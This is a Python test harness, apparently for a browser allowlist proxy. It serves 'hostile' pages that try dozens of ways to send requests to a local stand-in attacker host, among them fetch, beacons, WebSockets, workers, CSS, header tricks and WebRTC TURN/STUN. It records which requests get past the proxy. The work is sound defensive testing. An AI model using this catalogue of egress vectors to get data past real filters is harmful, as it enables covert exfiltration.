"""The ways in which a page can start a request, each to its own host `v-NAME.localhost`.

Chromium resolves `*.localhost` to this machine without DNS, and a proxy sees distinct names. So the host of each
request shows which way was used, at the attacker and in the proxy's refusals.
"""

from __future__ import annotations

import asyncio
import html
import json
import re
import socket
import ssl
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass

from aiohttp import web
from playwright.async_api import BrowserContext
from playwright.async_api import Error as PlaywrightError

from envs.security.allowlist import Origins
from envs.security.allowlist_proxy import AllowlistProxy

_WAY = re.compile(rb"v-([a-z0-9-]+)\.localhost")

MARKUP = {
    "img": '<img src="{u}">',
    "srcset": '<img srcset="{u} 1x">',
    "picture": '<picture><source srcset="{u}"><img></picture>',
    "script": '<script src="{u}"></script>',
    "module": '<script type="module" src="{u}"></script>',
    "css": '<link rel="stylesheet" href="{u}">',
    "css-import": '<style>@import "{u}";</style>',
    "css-background": '<div style="background: url({u}); width: 9px; height: 9px"></div>',
    "css-font": '<style>@font-face {{ font-family: F; src: url({u}); }}</style><p style="font-family: F">x</p>',
    "icon": '<link rel="icon" href="{u}">',
    "preload": '<link rel="preload" as="image" href="{u}">',
    "modulepreload": '<link rel="modulepreload" href="{u}">',
    "prefetch": '<link rel="prefetch" href="{u}">',
    "preconnect": '<link rel="preconnect" href="{tls}">',
    "manifest": '<link rel="manifest" href="{u}">',
    "iframe": '<iframe src="{u}"></iframe>',
    "iframe-meta": '<iframe srcdoc="<meta http-equiv=refresh content=&quot;0;url={u}&quot;>"></iframe>',
    "iframe-redirect": '<iframe src="{to}"></iframe>',
    "img-redirect": '<img src="{to}">',
    "script-redirect": '<script src="{to}"></script>',
    "object": '<object data="{u}"></object>',
    "embed": '<embed src="{u}">',
    "video": '<video src="{u}" preload="auto"></video>',
    "poster": '<video poster="{u}"></video>',
    "audio": '<audio src="{u}" preload="auto"></audio>',
    "input-image": '<input type="image" src="{u}">',
    "svg-image": '<svg><image href="{u}" width="9" height="9"/></svg>',
    "svg-filter": '<svg><filter id="f"><feImage href="{u}"/></filter></svg><p style="filter: url(#f)">x</p>',
    "speculation": '<script type="speculationrules">{{"prefetch": [{{"urls": ["{u}"]}}]}}</script>',
    "tls": '<img src="{tls}">',
    "form": '<iframe name="f1"></iframe><form target="f1" action="{u}"></form>',
    "form-post": '<iframe name="f2"></iframe><form target="f2" method="post" action="{u}"><input name="a"></form>',
}
"""Ways by an element; the script below submits forms."""

SCRIPTS = {
    "fetch": "fetch(u)",
    "fetch-no-cors": "fetch(u, {mode: 'no-cors'})",
    "fetch-redirect": "fetch(to, {mode: 'no-cors'})",
    "fetch-keepalive": "fetch(u, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', u); x.send()",
    "beacon": "navigator.sendBeacon(u, 'x')",
    "event-source": "new EventSource(u)",
    "event-source-redirect": "new EventSource(to)",
    "web-socket": "new WebSocket(u.replace('http', 'ws'))",
    "web-socket-tls": "new WebSocket(tls.replace('http', 'ws'))",
    "import": "import(u)",
    "new-image": "new Image().src = u",
    "list-style": "document.body.style.listStyle = `url(${u})`; document.body.style.display = 'list-item'",
    "font-face": "new FontFace('G', `url(${u})`).load()",
    "worklet": "CSS.paintWorklet.addModule(u)",
    "audio-worklet": "new AudioContext().audioWorklet.addModule(u)",
    "worker-fetch": "worker(`fetch('${u}', {mode: 'no-cors'})`)",
    "worker-xhr": "worker(`const x = new XMLHttpRequest(); x.open('GET', '${u}'); x.send()`)",
    "worker-import-scripts": "worker(`importScripts('${u}')`)",
    "worker-web-socket": "worker(`new WebSocket('${u.replace('http', 'ws')}')`)",
    "worker-event-source": "worker(`new EventSource('${u}')`)",
    "worker-redirect": "worker(`fetch('${to}', {mode: 'no-cors'})`)",
    "shared-worker": "new SharedWorker(blob(`fetch('${u}', {mode: 'no-cors'})`))",
    "frame-location": "frame().location = u",
    "frame-script-url": "frame().location = `javascript:location='${u}'`",
    "frame-form": "frame().document.write(`<form action='${u}'></form>${tag('document.forms[0].submit()')}`)",
    "frame-data": "child({src: `data:text/html,<img src=${u}>`})",
    "frame-blob": "frame().location = URL.createObjectURL(new Blob([`<img src=${u}>`], {type: 'text/html'}))",
    "frame-sandboxed": "child({sandbox: 'allow-scripts', srcdoc: tag(`fetch('${u}', {mode: 'no-cors'})`)})",
    "service-worker": "navigator.serviceWorker.register('/sw.js?u=' + encodeURIComponent(u))",
    "report": "child({src: '/csp?u=' + encodeURIComponent(u)})",
    "link-header": "child({src: '/link?u=' + encodeURIComponent(u)})",
    "refresh-header": "child({src: '/refresh?u=' + encodeURIComponent(u)})",
    "turn-tcp": "ice(`turn:${u.slice(7).split('/')[0]}?transport=tcp`)",
}
"""Ways by script. `u` is the attacker's address, `tls` the same by https, `to` our own site redirecting there."""

TOP = {
    "top-location": "location = u",
    "top-replace": "location.replace(u)",
    "top-redirect": "location = to",
    "top-form": "document.body.innerHTML = `<form action='${u}'></form>`; document.forms[0].submit()",
    "top-post": "document.body.innerHTML = `<form method=post action='${u}'></form>`; document.forms[0].submit()",
    "top-meta": "document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${u}'>`",
    "top-unload": "addEventListener('pagehide', () => navigator.sendBeacon(u, 'x')); location = '/blank'",
    "click-link": "document.body.innerHTML = `<a id=go href='${u}'>go</a>`",
    "click-ping": "document.body.innerHTML = `<a id=go href='/blank' ping='${u}'>go</a>`",
    "click-blank": "document.body.innerHTML = `<a id=go target=_blank href='${u}'>go</a>`",
    "click-window": "document.body.innerHTML = `<button id=go>go</button>`; go.onclick = () => window.open(u)",
    "click-download": "document.body.innerHTML = `<a id=go download href='${u}'>go</a>`",
}
"""Ways that navigate the page; those with an element `#go` need a click."""

_HELPERS = """
const pc = [];
function blob(text) { return URL.createObjectURL(new Blob([text], {type: 'text/javascript'})); }
function worker(text) { return new Worker(blob(text)); }
function child(its) {
    return document.body.appendChild(Object.assign(document.createElement('iframe'), its)).contentWindow;
}
function frame() { return child({}); }
function tag(text) { return '<script>' + text + '<' + '/script>'; }
function ice(url) {
    const c = new RTCPeerConnection({iceServers: [{urls: url, username: 'a', credential: 'b'}]});
    pc.push(c); c.createDataChannel('x');
    c.createOffer().then(o => c.setLocalDescription(o));
}
"""


def ways_in(data: bytes) -> set[str]:
    """The ways whose hosts occur in *data*."""
    return {way.decode() for way in _WAY.findall(data)}


class Seen:
    """A growing set of ways that can be waited for."""

    def __init__(self) -> None:
        self.ways: set[str] = set()
        self._more = asyncio.Event()

    def add(self, ways: set[str]) -> None:
        self.ways |= ways
        self._more.set()

    async def all_of(self, ways: set[str], timeout_s: float) -> set[str]:
        """Waits until all *ways* were seen; returns those that were not seen in time."""
        try:
            async with asyncio.timeout(timeout_s):
                while not ways <= self.ways:
                    self._more.clear()
                    await self._more.wait()
        except TimeoutError:
            pass
        return ways - self.ways


@dataclass(frozen=True)
class Arrival:
    """A request that reached the attacker."""

    ways: frozenset[str]
    method: str
    fields: dict[str, str]


class Attacker:
    """Listens on this machine, by TCP and UDP, and records the requests."""

    def __init__(self) -> None:
        self.arrived = Seen()
        self.requests: list[Arrival] = []
        self.connections = 0
        self.datagrams = 0
        self.port = 0
        self.udp_port = 0

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            data = await reader.read(4096)
            self.arrived.add(ways_in(data))
            self.requests.append(_arrival(data))
            writer.write(
                b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\n"
                b"Set-Cookie: visitor=1\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
            )
            await writer.drain()
        except ConnectionError:
            pass
        finally:
            writer.close()


def _arrival(data: bytes) -> Arrival:
    first, *lines = data.decode("latin-1").split("\r\n\r\n")[0].split("\r\n")
    fields = (line.partition(":") for line in lines)
    named = {name.lower(): value.strip() for name, _, value in fields}
    return Arrival(frozenset(ways_in(data)), first.partition(" ")[0], named)


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, attacker: Attacker) -> None:
        self._attacker = attacker

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._attacker.datagrams += 1


@asynccontextmanager
async def attacker(tls: ssl.SSLContext | None = None) -> AsyncGenerator[Attacker]:
    server = Attacker()
    listening = await asyncio.start_server(server.handle, "127.0.0.1", 0, ssl=tls)
    server.port = listening.sockets[0].getsockname()[1]
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: _Datagrams(server), local_addr=("127.0.0.1", 0), family=socket.AF_INET
    )
    server.udp_port = transport.get_extra_info("sockname")[1]
    try:
        yield server
    finally:
        transport.close()
        listening.close()


@asynccontextmanager
async def hostile_site(against: Attacker, scheme: str = "http") -> AsyncGenerator[str]:
    """Serves the allowed site with hostile pages; yields its address. `/` tries many ways, `/top/NAME` one, each to
    the attacker by *scheme*."""

    def urls(way: str) -> dict[str, str]:
        host = f"v-{way}.localhost:{against.port}/"
        return {"u": f"{scheme}://{host}", "tls": f"https://{host}", "to": f"/to/{way}"}

    def script(way: str, code: str) -> str:
        names = ", ".join(f"{name} = {json.dumps(value)}" for name, value in urls(way).items())
        return f"try {{ (async () => {{ const {names.replace('to = ', 'to = origin + ')}; {code} }})(); }} catch {{}}\n"

    async def everything(_: web.Request) -> web.Response:
        ways = "\n".join(markup.format(**urls(way)) for way, markup in MARKUP.items())
        code = "".join(script(way, code) for way, code in SCRIPTS.items())
        udp = (
            f"ice('stun:127.0.0.1:{against.udp_port}');\n"
            f"try {{ new WebTransport('https://127.0.0.1:{against.udp_port}/') }} catch {{}}\n"
        )
        forms = "for (const f of document.forms) f.submit();\n"
        return _page(f"{ways}<script>{_HELPERS}{code}{udp}{forms}document.title = 'tried'</script>")

    async def top(request: web.Request) -> web.Response:
        way = request.match_info["way"]
        return _page(f"<script>{script(way, TOP[way])}</script>")

    async def redirect(request: web.Request) -> web.Response:
        raise web.HTTPFound(urls(request.match_info["way"])["u"])

    async def with_header(request: web.Request) -> web.Response:
        u = request.query["u"]
        headers = {
            "/csp": {"Content-Security-Policy": f"img-src 'none'; report-uri {u}"},
            "/link": {"Link": f"<{u}>; rel=preload; as=script"},
            "/refresh": {"Refresh": f"0;url={u}"},
        }[request.path]
        response = _page("<img src='/blank'>")
        response.headers.update(headers)
        return response

    async def blank(_: web.Request) -> web.Response:
        return _page("")

    async def service_worker(request: web.Request) -> web.Response:
        code = f"fetch({json.dumps(request.query['u'])}, {{mode: 'no-cors'}})"
        return web.Response(text=code, content_type="text/javascript")

    app = web.Application()
    app.add_routes([web.get("/", everything), web.get("/top/{way}", top), web.get("/to/{way}", redirect)])
    app.add_routes([web.get(path, with_header) for path in ("/csp", "/link", "/refresh")])
    app.add_routes([web.get("/sw.js", service_worker), web.get("/blank", blank)])
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


def _page(body: str) -> web.Response:
    text = f"<!doctype html><title>{html.escape('page')}</title><body>{body}</body>"
    return web.Response(text=text, content_type="text/html")


class WatchedProxy(AllowlistProxy):
    """A proxy that records the way of each refused request."""

    def __init__(self, origins: Origins, authorities: ssl.SSLContext | None = None) -> None:
        super().__init__(origins, authorities=authorities)
        self.seen = Seen()

    def record(self, origin: str, reason: str) -> None:
        super().record(origin, reason)
        self.seen.add(ways_in(origin.encode()))


async def try_everything(context: BrowserContext, site: str, seen: Seen, expected: set[str]) -> set[str]:
    """Opens the hostile pages; returns the *expected* ways that *seen* did not see in time."""
    async with asyncio.timeout(240):
        page = await context.new_page()
        await page.goto(site, wait_until="commit", timeout=60_000)
        await page.wait_for_function("document.title == 'tried'", timeout=60_000)
        gate = asyncio.Semaphore(3)

        async def try_one(way: str) -> None:
            async with gate:
                await _try_top(context, f"{site}/top/{way}", way)

        await asyncio.gather(*(try_one(way) for way in TOP))
        return await seen.all_of(expected, 60)


async def _try_top(context: BrowserContext, url: str, way: str) -> None:
    page = await context.new_page()
    try:
        await page.goto(url, wait_until="commit", timeout=60_000)
        if way.startswith("click"):
            await page.click("#go", timeout=30_000, no_wait_after=True)
    except PlaywrightError as error:
        # The page may leave before `goto` has seen it arrive: that is the way under test.
        assert "interrupted" in str(error) or "ERR_" in str(error), error
